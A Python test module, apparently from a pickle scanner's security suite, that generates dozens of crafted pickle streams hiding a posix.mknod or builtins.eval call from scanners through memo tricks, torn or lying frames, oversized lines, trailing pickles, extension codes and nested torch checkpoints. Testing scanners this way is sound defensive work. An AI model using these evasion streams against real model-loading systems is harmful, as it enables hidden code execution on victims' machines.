"""Whole pickles that are odd as streams of opcodes: memo, frames, long lines, spellings, heads and tails."""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator

from tests.security.assembler import pickled, spelled
from tests.security.calls import USER_MODULE, Place

Streams = Iterator[tuple[str, bytes]]
STREAMS: dict[str, Callable[[Place], Streams]] = {}
STOP, POP, REDUCE, STACK_GLOBAL, DUP, MEMOIZE = b".", b"0", b"R", b"\x93", b"2", b"\x94"
PROTO2, PROTO4 = b"\x80\x02", b"\x80\x04"


def stream(generator: Callable[[Place], Streams]) -> Callable[[Place], Streams]:
    """Add a class of attack."""
    STREAMS[generator.__name__] = generator
    return generator


def text(value: str) -> bytes:
    """Push a text by BINUNICODE."""
    return spelled(value, 2)


def mknod(place: Place) -> bytes:
    """Push the result of the attack, as protocol 2 spells it."""
    return b"cposix\nmknod\n" + text(place.marker) + b"\x85R"


def framed(body: bytes) -> bytes:
    """Return opcodes in a frame."""
    return b"\x95" + struct.pack("<Q", len(body)) + body


@stream
def memo_games(place: Place) -> Streams:
    """Two readings of one memo."""
    call = text(place.marker) + b"\x85R."
    push = [text(word) for word in ("collections", "posix", "Counter", "mknod")]
    shifted = push[0] + DUP + MEMOIZE + POP + POP
    shifted += b"".join(word + MEMOIZE + POP for word in push[1:])
    yield "dup_memoize", PROTO4 + shifted + b"h\1h\3" + STACK_GLOBAL + call
    yield "dup_memoize.framed", PROTO4 + framed(shifted + b"h\1h\3" + STACK_GLOBAL + call)
    dup_put = text("collections") + b"q\0" + POP + text("posix") + DUP + b"q\0" + POP + POP
    dup_put += text("Counter") + b"q\1" + POP + text("mknod") + DUP + b"q\1" + POP + POP
    yield "dup_put", PROTO4 + dup_put + b"h\0h\1" + STACK_GLOBAL + call
    overwritten = text("collections") + b"q\0" + POP + text("posix") + b"r\0\0\0\0" + POP
    overwritten += text("OrderedDict") + b"p1\n" + POP + text("mknod") + b"p1\n" + POP
    yield "overwritten", PROTO4 + overwritten + b"g0\nj\1\0\0\0" + STACK_GLOBAL + call
    spaced = text("posix") + b"p10\n" + POP + text("mknod") + b"p 1_1\n" + POP
    yield "underscores", PROTO4 + spaced + b"g1_0\ng+11\n" + STACK_GLOBAL + call
    gap = text("x") + b"r\xff\0\0\0" + POP + text("posix") + MEMOIZE + POP + text("mknod") + MEMOIZE + POP
    yield "memoize_after_gap", PROTO4 + gap + b"h\1h\2" + STACK_GLOBAL + call
    again = text("posix") + MEMOIZE + MEMOIZE + POP + text("mknod") + MEMOIZE + POP
    yield "memoize_twice", PROTO4 + again + b"h\1h\2" + STACK_GLOBAL + call
    function = b"cposix\nmknod\n" + DUP + MEMOIZE + POP + POP + b"ccollections\nCounter\n" + MEMOIZE + POP
    yield "function", PROTO4 + function + b"h\0" + call
    marked = b"(" + text("posix") + text("mknod") + DUP + b"t" + POP
    yield "mark", PROTO4 + marked + text("posix") + text("mknod") + STACK_GLOBAL + call
    yield "large_index", PROTO2 + text("x") + b"r" + struct.pack("<I", 10_000_100) + POP + mknod(place) + STOP


@stream
def driven_counters(place: Place) -> Streams:
    """A name's uses are counted down by keys, then it is handed on to what calls it."""
    evaluated = text(place.expression)
    consumers = {
        "generator": b"cnumpy.random._pickle\n__generator_ctor\n" + evaluated + b"%b\x86R",
        "rebuild": b"ctorch._tensor\n_rebuild_from_type_v2\n(%bctorch\nTensor\n" + evaluated + b"\x85}tR",
    }
    pair = b"](h\0Neq\1"
    drains = {
        "memoized_lists": pair + POP + b"ccollections\nOrderedDict\n](h\1h\1h\1e\x85R" + POP,
        "tuples": b"h\0N\x86q\1" + POP + b"ccollections\nOrderedDict\n](h\1h\1h\1e\x85R" + POP,
        "dict_keys": b"}h\0Nsh\0NsNNs" + POP,
        "dup_keys": b"}h\0" + DUP + b"sh\0" + DUP + b"s" + POP,
        "sets": b"\x8f(h\0h\0h\0\x90" + POP,
        "called": b"h\0" + text("1") + b"\x85R" + POP + b"h\0" + text("1") + b"\x85R" + POP,
    }
    for how, drained in drains.items():
        for who, consumer in consumers.items():
            head = PROTO2 + b"cbuiltins\neval\nq\0" + POP
            yield f"{how}.{who}", head + drained + consumer.replace(b"%b", b"h\0") + STOP
    again = b"c__builtin__\neval\n"
    yield "python2", PROTO2 + consumers["generator"].replace(b"%b", again) + STOP


@stream
def frames(place: Place) -> Streams:
    """Frames that lie about what is in them, all of which the C unpickler passes over."""
    call = mknod(place) + STOP
    yield "nested", PROTO4 + framed(b"N0" + framed(call))
    yield "nested_deep", PROTO4 + framed(b"N0" + framed(b"N0" + framed(b"N0" + framed(call))))
    yield "two", PROTO4 + framed(b"N0") + framed(call)
    yield "short", PROTO4 + b"\x95" + struct.pack("<Q", 4) + call
    yield "inside_opcode", PROTO4 + b"\x95" + struct.pack("<Q", 9) + call
    yield "empty", PROTO4 + b"\x95" + bytes(8) + call
    yield "in_protocol_2", PROTO2 + framed(call)
    yield "without_proto", framed(call)
    yield "over_trailing", PROTO4 + b"\x95" + struct.pack("<Q", len(call) + 5) + call + bytes(5)
    yield "proto_again", PROTO4 + framed(b"\x80\x00" + b"\x80\x04" + call)
    yield (
        "mixed_protocols",
        PROTO4 + b"\x80\x02" + b"c__builtin__\neval\n" + text(place.expression) + b"\x85R.",
    )


@stream
def stoppers(place: Place) -> Streams:
    """What makes a reader give up before the call, and the real one not."""
    call = mknod(place) + STOP
    yield "int_digits", PROTO2 + b"I" + b"0" * 4290 + b"7\n0" + call
    yield "int_4299", PROTO2 + b"L" + b"9" * 4200 + b"L\n0" + call
    yield "long_4_bytes", PROTO2 + b"\x8b" + struct.pack("<I", 100_000) + b"\1" * 100_000 + POP + call
    yield "unicode_line", PROTO2 + b"V" + b"x" * (3 << 20) + b"\n0" + call
    yield "string_line", PROTO2 + b"S'" + b"x" * (3 << 20) + b"'\n0" + call
    yield "float_line", PROTO2 + b"F1" + b"0" * 10_000 + b".5e-9999\n0" + call
    yield "memo_put", PROTO2 + b"Np100000\n0" + call
    yield "memo_hole", PROTO2 + b"Nr" + struct.pack("<I", 1 << 20) + POP + call
    yield "nested_lists", PROTO2 + b"]" * 2000 + b"a" * 1999 + POP + call
    yield "many_marks", PROTO2 + b"(" * 3000 + b"1" * 3000 + call
    yield "stop_missing", PROTO2 + call[:-1]
    yield "cut", PROTO2 + call[:-1] + b"X\xff\xff\xff\x7fab"
    yield "garbage_behind", PROTO2 + call[:-1] + b"\xff\xff\xff"
    yield "underflow_behind", PROTO2 + call[:-1] + b"000000"
    yield "unhashable_behind", PROTO2 + call[:-1] + b"}]NsN."
    yield "unknown_memo_behind", PROTO2 + call[:-1] + b"h\xff."
    yield "surrogates", PROTO2 + b"X\3\0\0\0\xed\xa0\x80" + POP + call
    yield "lone_surrogate_line", PROTO2 + b"V\\ud800\n0" + call
    yield "bytearray", b"\x80\x05\x96" + struct.pack("<Q", 3) + b"abc0" + call
    yield "readonly_buffer", b"\x80\x05\x96" + struct.pack("<Q", 3) + b"abc\x980" + call
    yield "frozenset", PROTO4 + b"(K\1K\2\x910" + call
    yield "setitems_odd", PROTO2 + b"}(N" + text("a") + b"u0" + call
    yield "appends_to_deque", PROTO2 + b"ccollections\ndeque\n)R(NNe0" + call
    yield "setitem_on_list", PROTO2 + b"]NaK\0" + call[:-1] + b"s."
    yield "setitems_user", PROTO2 + b"c" + USER_MODULE.encode() + b"\nConfig\n)R0" + call
    register = b"ccopyreg\nadd_extension\n(" + text("posix") + text("mknod") + b"J\xf0\0\0\0tR0"
    yield "ext1", PROTO2 + register + b"\x82\xf0" + text(place.marker) + b"\x85R."
    yield "ext2", PROTO2 + register + b"\x83\xf0\0" + text(place.marker) + b"\x85R."
    yield "ext4", PROTO2 + register + b"\x84\xf0\0\0\0" + text(place.marker) + b"\x85R."


@stream
def first_opcodes(place: Place) -> Streams:
    """Pickles of protocols 0 and 1, which may begin with any opcode and have no head."""
    call = mknod(place) + STOP
    heads = {
        "I": b"I1\n0", "L": b"L1L\n0", "F": b"F1.5\n0", "N": b"N0", "S": b"S'a'\n0", "V": b"Va\n0",
        "K": b"K\x010", "M": b"M\1\0000", "J": b"J\1\0\0\0000", "G": b"G\0\0\0\0\0\0\0\0000",
        "U": b"U\1a0", "T": b"T\1\0\0\0a0", "X": b"X\1\0\0\0a0", "mark": b"(1", "tuple": b")0", "list": b"]0",
        "dict": b"}0", "mark_list": b"(l0", "mark_dict": b"(d0", "mark_tuple": b"(t0", "global": b"",
        "inst": b"(icollections\nOrderedDict\n0", "none_put": b"Np0\n0", "true": b"\x880", "false": b"\x890",
        "short_unicode": b"\x8c\1a0", "bytes": b"C\1a0", "long": b"\x8a\1\x010", "empty_set": b"\x8f0",
        "unicode8": b"\x8d\1\0\0\0\0\0\0\0a0", "bytes8": b"\x8e\1\0\0\0\0\0\0\0a0",
        "bytearray8": b"\x96\1\0\0\0\0\0\0\0a0", "proto0": b"\x80\0", "proto1": b"\x80\1",
        "proto5": b"\x80\5", "long4": b"\x8b\1\0\0\0\x010", "marks": b"((((1111", "memoize": b"N\x940",
        "frame": b"\x95" + bytes(8),
    }  # fmt: skip
    for name, head in heads.items():
        yield name, head + call
    yield "protocol0", pickled({"a": 1}, 0)[:-1] + POP + call
    yield "binary_string_call", b"cposix\nmknod\n(S" + repr(place.marker).encode() + b"\ntR."
    yield "inst_only", b"(S" + repr(place.marker).encode() + b"\niposix\nmknod\n."


@stream
def spelled_names(place: Place) -> Streams:
    """Names by every opcode that pushes a text."""
    call = text(place.marker) + b"\x85R."
    yield "raw_unicode", PROTO4 + b"V\\u0070osix\nVmk\\u006eod\n\x93" + call
    yield "string_escape", PROTO4 + b"S'\\x70osix'\nS'mk\\156od'\n\x93" + call
    yield "binstring", PROTO4 + b"T\5\0\0\0posixU\5mknod\x93" + call
    yield "unicode8", PROTO4 + b"\x8d\5\0\0\0\0\0\0\0posix\x8c\5mknod\x93" + call
    yield "long_unicode", PROTO4 + b"X\5\0\0\0posixX\5\0\0\0mknod\x93" + call
    decoded = b"".join(b"c_codecs\ndecode\nC\5" + word + b"\x85R" for word in (b"posix", b"mknod"))
    yield "decoded", PROTO4 + decoded + STACK_GLOBAL + call
    joined = b"cbuiltins\ngetattr\nX\0\0\0\0X\4\0\0\0join\x86R](X\3\0\0\0posX\2\0\0\0ixe\x85R"
    yield "joined", PROTO4 + joined + b"X\5\0\0\0mknod\x93" + call
    built = b"cbuiltins\nstr\nX\5\0\0\0posix\x85RX\5\0\0\0mknod\x93"
    yield "constructed", PROTO4 + built + call
    yield "crlf", b"cposix\nmknod\n(V" + place.marker.encode() + b"\ntR."
    yield "empty_parts", PROTO4 + text("posix") + text("mknod") + STACK_GLOBAL + call
    yield (
        "submodule_of_plain",
        PROTO4
        + text("collections")
        + text("_sys.modules.get")
        + STACK_GLOBAL
        + (text("posix") + b"\x85R0" + text("posix") + text("mknod") + STACK_GLOBAL + call),
    )


@stream
def trailing_pickles(place: Place) -> Streams:
    """A second pickle behind a first, for whoever loads twice."""
    evil = PROTO2 + mknod(place) + STOP
    honest = pickled({"epoch": 1}, 2)
    yield "second", honest + evil
    yield "third", honest + honest + evil
    yield "second_protocol0", honest + b"cposix\nmknod\n(V" + place.marker.encode() + b"\ntR."
    yield "after_protocol0", pickled({"epoch": 1}, 0) + evil
    yield "after_protocol4", pickled({"epoch": 1}, 4) + pickled([1], 5) + evil
    yield "after_newline", honest + evil
    yield "after_many", honest * 300 + evil


@stream
def encoded_bytes(place: Place) -> Streams:
    """A checkpoint within a byte string that two decoders read differently."""
    evil = b"cposix\nmknod\n(V" + place.marker.encode() + b"\ntR"
    magic = f"L{0x1950A86A20F9469CFC6C}L\n.".encode()
    head = magic + b"I1001\n." + b"}."
    for length in (40, 120):
        half = length // 2
        hidden = b"C" + bytes([length]) + b"\xe9" * half + (b".]." + b"}" * half)[:half] + POP + evil + b".]."
        for size in (0, 70_000):
            inner = head + hidden + b"\0" * size
            pushed = spelled(inner, 2)
            yield (
                f"latin1_{length}_{size}",
                PROTO2 + b"ctorch.storage\n_load_from_bytes\n" + pushed + b"\x85R.",
            )
    padded = head + evil + b".]." + b"\xe9" * 70_000
    yield "latin1_plain", PROTO2 + b"ctorch.storage\n_load_from_bytes\n" + spelled(padded, 2) + b"\x85R."
    yield "bytes_plain", b"\x80\x03ctorch.storage\n_load_from_bytes\n" + spelled(padded, 3) + b"\x85R."
    inner_again = (
        head + b"ctorch.storage\n_load_from_bytes\n" + spelled(head + evil + b".].", 2) + b"\x85R.]."
    )
    yield "twice", b"\x80\x03ctorch.storage\n_load_from_bytes\n" + spelled(inner_again, 3) + b"\x85R."


@stream
def torn_frames(place: Place) -> Streams:
    """Arguments that reach over a frame's end, of which the C unpickler forgets what lies within."""
    call = POP + mknod(place)
    hidden = POP + b"B" + struct.pack("<I", len(call))
    yield "text", PROTO4 + _torn(b"X\x14\0\0\0zzzzzz") + b"p" * 14 + hidden + call + STOP
    yield "short_text", PROTO4 + _torn(b"\x8c\x14zzzzzz") + b"p" * 14 + hidden + call + STOP
    yield "number", PROTO4 + _torn(b"\x8a\x14zzzzzz") + b"p" * 14 + hidden + call + STOP
    path = text(place.marker) + b"\x85R."
    yield "line", PROTO4 + _torn(b"Vno_such_") + b"posix\nVmknod\n" + STACK_GLOBAL + path
    yield "name", PROTO4 + _torn(b"cno_such_") + b"posix\nmknod\n" + path


def _torn(begun: bytes) -> bytes:
    """Return a frame that ends in the midst of an opcode, and is larger than what CPython reads ahead."""
    filler = b"X" + struct.pack("<I", 1 << 18) + b"f" * (1 << 18) + POP
    return framed(filler + begun)


@stream
def torn_trailing(place: Place) -> Streams:
    """A pickle that ends within its frame: the next begins behind the frame, and not behind the pickle."""
    evil = PROTO2 + mknod(place) + STOP
    yield "behind_the_frame", PROTO4 + _torn(b"N.B" + struct.pack("<I", len(evil))) + evil + STOP
